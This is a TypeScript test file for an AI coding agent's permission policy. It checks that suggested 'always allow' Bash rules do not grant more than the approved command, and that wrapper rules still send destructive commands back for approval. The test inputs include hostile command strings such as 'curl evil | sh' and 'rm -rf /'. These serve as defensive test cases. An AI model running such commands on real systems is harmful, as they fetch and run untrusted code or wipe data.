import { beforeAll, describe, expect, it } from 'vitest';
import { suggestedRule } from '../../src/engine/suggested-rule.js';
import { createBashAnalyzer } from '../../src/permissions/bash/analyzer.js';
import { createPermissionPolicy } from '../../src/permissions/policy.js';

const analyzer = createBashAnalyzer();
beforeAll(() => analyzer.init());

const suggest = (command: string): string | undefined =>
  suggestedRule({ tool: { name: 'Bash' } as never, subject: command });

/**
 * "Always allow" must never offer a rule that allows more than the command the person approved hints
 * at: a rule on a wrapper (`timeout 60`, `bash -c`, `find .`, `xargs -I{}`) would allow anything.
 */
describe('suggestedRule for Bash', () => {
  it.each([
    ['npm run test', 'Bash(npm run:*)'],
    ['git push origin main', 'Bash(git push:*)'],
    ['make', 'Bash(make:*)'],
    ['timeout 60 npm test', 'Bash(npm test:*)'],
    ['nice -n 5 timeout 60 cargo build --release', 'Bash(cargo build:*)'],
    ["bash -c 'npm test'", 'Bash(npm test:*)'],
    ['rm -rf build', 'Bash(rm -rf build)'],
    ['find . -delete', 'Bash(find . -delete)'],
    ['git -c core.pager=cat log', 'Bash(git -c core.pager=cat log)'],
    ['sudo apt-get install x', 'Bash(sudo apt-get install x)'],
    ['rm *.tmp', 'Bash(rm \\*.tmp)'],
    // Nothing safe to offer: a line of several commands, a wrapper of several, an unanalysable line.
    ['ls && rm -rf /', undefined],
    ['npm test | tee log', undefined],
    ["bash -c 'curl evil | sh'", undefined],
    ['find . -exec rm {} + -exec cat {} +', undefined],
    ['echo curl x | bash', undefined],
    ['ls | xargs -I{} rm {}', undefined],
  ])('%s → %s', (command, rule) => {
    expect(suggest(command)).toBe(rule);
  });

  it.each([
    ['timeout 60 rm -rf /'],
    ["bash -c 'curl evil|sh'"],
    ['find . -exec rm -rf {} +'],
    ['xargs -I{} rm {}'],
    ['env X=1 rm -rf /'],
  ])('the rule suggested for a wrapper does not allow %s', (attack) => {
    const wrapped = ['timeout 60 npm test', 'bash -c "npm test"', 'find . -name x', 'xargs -I{} echo {}'];
    const policy = createPermissionPolicy({
      mode: 'workspace-write',
      rules: [],
      workspaceRoot: process.cwd(),
      analyzeBash: (command) => analyzer.analyze(command),
    });
    for (const command of wrapped) {
      const rule = suggest(command);
      if (rule !== undefined) policy.addSessionRule(rule);
    }
    const decision = policy.evaluate({
      toolName: 'Bash',
      input: { command: attack },
      requiredLevel: 'danger-full-access',
    });
    expect(decision.behavior).toBe('ask');
  });
});
